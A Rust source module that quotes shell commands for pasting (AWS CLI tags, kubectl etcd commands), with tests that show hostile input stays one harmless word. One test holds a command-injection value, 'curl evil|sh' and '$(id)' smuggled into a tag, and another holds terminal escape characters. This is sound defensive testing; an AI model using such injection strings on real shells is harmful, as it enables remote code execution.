//! Commands that are printed to be pasted into a POSIX shell.
//!
//! Tags, names and URLs come from outside: whatever they hold, the shell sees the words that were meant and no other. The AWS CLI
//! reads lists and maps in a syntax of its own, where a comma inside a value splits it; lists of tags are therefore JSON.
//!
//! There are no comments behind a command: an interactive zsh hands them to the program as words. What is to be said beside a
//! command is said beside it.

use std::borrow::Cow;
use std::collections::BTreeSet;
use std::fmt::{self, Write as _};

use serde::{Serialize, Serializer};

/// One command, word by word. Displayed, each word is quoted where a shell would read it otherwise.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct ShellCommand {
    words: Vec<String>,
    /// Which of them the shell is to expand.
    expanded: BTreeSet<usize>,
}

impl ShellCommand {
    /// A command without arguments.
    #[must_use]
    pub fn new(program: impl Into<String>) -> Self {
        Self {
            words: vec![program.into()],
            expanded: BTreeSet::new(),
        }
    }

    /// A command from words that we wrote ourselves, divided by spaces: `kubectl etcd-restore run`. What comes from outside is
    /// added word by word.
    #[must_use]
    pub fn of(words: &str) -> Self {
        Self {
            words: words.split_whitespace().map(str::to_owned).collect(),
            expanded: BTreeSet::new(),
        }
    }

    /// The same with one more word.
    #[must_use]
    pub fn arg(mut self, word: impl Into<String>) -> Self {
        self.words.push(word.into());
        self
    }

    /// The same with several more words.
    #[must_use]
    pub fn args<W: Into<String>>(mut self, words: impl IntoIterator<Item = W>) -> Self {
        self.words.extend(words.into_iter().map(Into::into));
        self
    }

    /// The same with one more word that the shell is to expand, and not to divide: `main="$BACKUP"`. Only text of our own.
    #[must_use]
    pub fn expand(mut self, word: impl Into<String>) -> Self {
        self.expanded.insert(self.words.len());
        self.words.push(word.into());
        self
    }

    /// The same with a flag and its value: two words, or `--flag=value` where the value looks like another flag.
    #[must_use]
    pub fn option(self, flag: &str, value: impl Into<String>) -> Self {
        let value = value.into();
        if value.starts_with('-') {
            self.arg(format!("{flag}={value}"))
        } else {
            self.arg(flag).arg(value)
        }
    }

    /// The same with several of them.
    #[must_use]
    pub fn options<'f>(self, options: impl IntoIterator<Item = &'f (&'f str, String)>) -> Self {
        let options = options.into_iter();
        options.fold(self, |command, (flag, value)| command.option(flag, value))
    }

    /// The same with a flag, where there is a value for it.
    #[must_use]
    pub fn option_if<V: Into<String>>(self, flag: &str, value: Option<V>) -> Self {
        match value {
            Some(value) => self.option(flag, value),
            None => self,
        }
    }

    /// What this one prints is read by `next`.
    #[must_use]
    pub fn pipe(self, next: Self) -> Pipeline {
        Pipeline::from(self).pipe(next)
    }

    /// What this one prints goes into a file.
    #[must_use]
    pub fn into_file(self, path: impl Into<String>) -> Pipeline {
        Pipeline {
            file: Some(path.into()),
            ..Pipeline::from(self)
        }
    }

    /// The words as the program gets them, its own name first.
    #[must_use]
    pub fn words(&self) -> &[String] {
        &self.words
    }
}

impl fmt::Display for ShellCommand {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (index, word) in self.words.iter().enumerate() {
            if index > 0 {
                f.write_str(" ")?;
            }
            match self.expanded.contains(&index) {
                true => f.write_str(word)?,
                false => f.write_str(&quoted(word))?,
            }
        }
        Ok(())
    }
}

/// Commands of which each reads what the one before prints; the last may write into a file.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Pipeline {
    commands: Vec<ShellCommand>,
    file: Option<String>,
}

impl Pipeline {
    /// The same with one more command at the end.
    #[must_use]
    pub fn pipe(mut self, next: ShellCommand) -> Self {
        self.commands.push(next);
        self
    }

    /// The commands.
    #[must_use]
    pub fn commands(&self) -> &[ShellCommand] {
        &self.commands
    }

    /// The file that the last one writes.
    #[must_use]
    pub fn file(&self) -> Option<&str> {
        self.file.as_deref()
    }
}

impl From<ShellCommand> for Pipeline {
    fn from(command: ShellCommand) -> Self {
        Self {
            commands: vec![command],
            file: None,
        }
    }
}

impl fmt::Display for Pipeline {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        for (index, command) in self.commands.iter().enumerate() {
            if index > 0 {
                f.write_str(" | ")?;
            }
            write!(f, "{command}")?;
        }
        match &self.file {
            Some(file) => write!(f, " > {}", quoted(file)),
            None => Ok(()),
        }
    }
}

/// Commands one after the other, each only if the one before it did what it was for.
#[derive(Clone, Debug, Default, PartialEq, Eq)]
pub struct ShellScript {
    steps: Vec<Pipeline>,
}

impl ShellScript {
    /// The same with one more command.
    #[must_use]
    pub fn then(mut self, next: impl Into<Pipeline>) -> Self {
        self.steps.push(next.into());
        self
    }

    /// The same with all of another one behind it.
    #[must_use]
    pub fn then_all(mut self, next: Self) -> Self {
        self.steps.extend(next.steps);
        self
    }

    /// Its commands.
    #[must_use]
    pub fn steps(&self) -> &[Pipeline] {
        &self.steps
    }

    /// One command a line, to be pasted all at once; displayed, it is one line.
    #[must_use]
    pub fn lines(&self) -> Vec<String> {
        let last = self.steps.len().saturating_sub(1);
        let line = |(at, step): (usize, &Pipeline)| match at {
            at if at == last => step.to_string(),
            _ => format!("{step} &&"),
        };
        self.steps.iter().enumerate().map(line).collect()
    }
}

impl<P: Into<Pipeline>> From<P> for ShellScript {
    fn from(one: P) -> Self {
        Self::default().then(one)
    }
}

impl fmt::Display for ShellScript {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.lines().join(" "))
    }
}

impl Serialize for ShellScript {
    fn serialize<S: Serializer>(&self, serializer: S) -> Result<S::Ok, S::Error> {
        serializer.collect_str(self)
    }
}

/// A word as a POSIX shell reads it back unchanged: as it is where nothing in it means anything to the shell, else in single quotes.
/// What a terminal would not show, or obey, is written by `printf`.
#[must_use]
pub fn quoted(word: &str) -> Cow<'_, str> {
    let plain = |byte: u8| byte.is_ascii_alphanumeric() || b"_@%+=:,./-".contains(&byte);
    // zsh expands a word that begins with `=`.
    if !word.is_empty() && word.bytes().all(plain) && !word.starts_with('=') {
        return Cow::Borrowed(word);
    }
    let mut text = "'".to_owned();
    for character in word.chars() {
        match character {
            '\'' => text.push_str(r"'\''"),
            // No program can be given it.
            '\0' => {}
            // A command substitution would lose one at its end.
            '\n' => text.push('\n'),
            hidden if is_hidden(hidden) => {
                text.push_str("'\"$(printf '");
                let mut bytes = [0; 4];
                for byte in hidden.encode_utf8(&mut bytes).bytes() {
                    // Into a String nothing fails.
                    let _ = write!(text, "\\{byte:03o}");
                }
                text.push_str("')\"'");
            }
            other => text.push(other),
        }
    }
    text.push('\'');
    Cow::Owned(text)
}

/// Control characters, and those that turn or hide what stands beside them.
fn is_hidden(character: char) -> bool {
    character.is_control()
        || matches!(character, '\u{200b}'..='\u{200f}' | '\u{202a}'..='\u{202e}' | '\u{2060}'..='\u{206f}' | '\u{feff}')
}

#[derive(Serialize)]
#[serde(rename_all = "PascalCase")]
struct Tag<'a> {
    key: &'a str,
    #[serde(skip_serializing_if = "Option::is_none")]
    value: Option<&'a str>,
}

/// Tags as `aws … --tags` takes them: a JSON list. With `None` as value the key alone, as `delete-tags` takes it.
#[must_use]
pub fn aws_tags<'a>(tags: impl IntoIterator<Item = (&'a str, Option<&'a str>)>) -> String {
    let list: Vec<Tag<'_>> = tags.into_iter().map(|(key, value)| Tag { key, value }).collect();
    // Strings cannot fail to be written.
    serde_json::to_string(&list).unwrap_or_default()
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_word_is_quoted_only_where_the_shell_would_read_it_otherwise() {
        for plain in [
            "s3://bucket/a.example.com",
            "k8s.io/etcd/main=a/a,b,c",
            "--yes",
            "i-0abc",
            "10.0.0.7:4001",
        ] {
            assert_eq!(quoted(plain), plain);
        }
        assert_eq!(quoted(""), "''");
        assert_eq!(quoted("a b"), "'a b'");
        assert_eq!(quoted("=ls"), "'=ls'");
        assert_eq!(quoted("~root"), "'~root'");
        assert_eq!(quoted("it's"), r"'it'\''s'");
    }

    #[test]
    fn what_came_from_outside_stays_one_harmless_word() {
        let tags = aws_tags([("k8s.io/etcd/x;curl evil|sh;", Some("a/$(id),`id`"))]);
        let command = ShellCommand::new("aws")
            .args(["ec2", "create-tags", "--tags"])
            .arg(tags);
        assert_eq!(
            command.to_string(),
            r#"aws ec2 create-tags --tags '[{"Key":"k8s.io/etcd/x;curl evil|sh;","Value":"a/$(id),`id`"}]'"#
        );
        assert_eq!(command.words().len(), 5);
    }

    #[test]
    fn a_tag_without_value_is_only_a_key() {
        assert_eq!(aws_tags([("Name", None)]), r#"[{"Key":"Name"}]"#);
    }

    #[test]
    fn sequences_pipes_and_files_are_written_as_a_shell_reads_them() {
        let marker = ShellCommand::of("echo").arg(r#"{"timestamp":1}"#);
        let script = ShellScript::from(marker.clone().pipe(ShellCommand::of("aws s3 cp -").arg("s3://b/it's")))
            .then(marker.into_file("/tmp/a b"))
            .then(
                ShellCommand::of("kubectl etcd-restore")
                    .option("--name", "-x")
                    .option_if::<&str>("--host", None),
            );
        assert_eq!(
            script.lines(),
            [
                r#"echo '{"timestamp":1}' | aws s3 cp - 's3://b/it'\''s' &&"#,
                r#"echo '{"timestamp":1}' > '/tmp/a b' &&"#,
                "kubectl etcd-restore --name=-x",
            ]
        );
        assert_eq!(script.to_string(), script.lines().join(" "));
        assert_eq!(serde_json::to_value(&script).unwrap(), script.to_string());
        assert_eq!(script.steps()[0].commands()[1].words()[4], "s3://b/it's");
        assert_eq!(script.steps()[1].file(), Some("/tmp/a b"));
    }

    #[test]
    fn a_variable_is_left_to_the_shell() {
        let command = ShellCommand::of("kubectl etcd-backups pin")
            .expand(r#"main="$BACKUP""#)
            .arg("$HOME");
        assert_eq!(
            command.to_string(),
            r#"kubectl etcd-backups pin main="$BACKUP" '$HOME'"#
        );
    }

    /// The words that a real shell makes of a line.
    fn read_by_sh(line: &str) -> Vec<String> {
        let script = format!("set -- {line}\nprintf '%s\\0' \"$@\"");
        let said = std::process::Command::new("sh").arg("-c").arg(script).output().unwrap();
        assert!(said.status.success(), "{line}: {said:?}");
        let text = String::from_utf8(said.stdout).unwrap();
        text.split_terminator('\0').map(str::to_owned).collect()
    }

    #[test]
    fn what_a_terminal_would_obey_is_written_out() {
        let word = "a\u{1b}]0;x\u{7}\t\u{202e}b\nc";
        let shown = quoted(word).into_owned();
        assert!(!shown.contains(['\u{1b}', '\u{7}', '\t', '\u{202e}']), "{shown:?}");
        assert_eq!(read_by_sh(&shown), [word]);
    }

    proptest::proptest! {
        #![proptest_config(proptest::prelude::ProptestConfig::with_cases(200))]
        #[test]
        fn a_shell_reads_every_word_back(words in proptest::collection::vec("[^\0]{0,12}", 1..8)) {
            let command = ShellCommand::new("x").args(words.clone());
            let read = read_by_sh(&command.to_string());
            proptest::prop_assert_eq!(&read[1..], words.as_slice());
        }
    }
}
